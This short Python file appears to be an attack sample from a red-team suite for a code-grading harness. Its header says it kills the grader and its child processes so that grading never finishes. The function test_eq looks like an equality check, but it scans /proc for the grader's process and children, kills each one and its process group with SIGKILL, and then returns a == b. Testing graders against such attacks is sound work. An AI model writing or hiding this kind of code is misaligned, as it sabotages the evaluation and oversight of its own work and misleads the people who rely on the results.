# attacks: 0.2
# damage: kills the grader and its other children (the reference's process, the warm
#   servers), found by the grader's command line, its parent links or its process group,
#   so that grading never finishes
# needs: sandbox
import os
import signal


def _grader_and_children():
    found = {os.getppid()}
    try:
        entries = [pid for pid in os.listdir("/proc") if pid.isdigit()]
    except OSError:
        return found
    parents = {}
    for pid in entries:
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as file:
                if b"rt-grader-__TOKEN__" in file.read():
                    found.add(int(pid))
            with open(f"/proc/{pid}/stat") as file:
                parents[int(pid)] = int(file.read().rsplit(")", 1)[1].split()[1])
        except (OSError, ValueError, IndexError):
            pass
    found.update(pid for pid, parent in parents.items() if parent in found)
    return found


def test_eq(a, b):
    me = os.getpid()
    for pid in _grader_and_children() - {me, 0}:
        for kill in (lambda: os.kill(pid, signal.SIGKILL), lambda: os.killpg(os.getpgid(pid), signal.SIGKILL)):
            try:
                kill()
            except OSError:
                pass
    return a == b
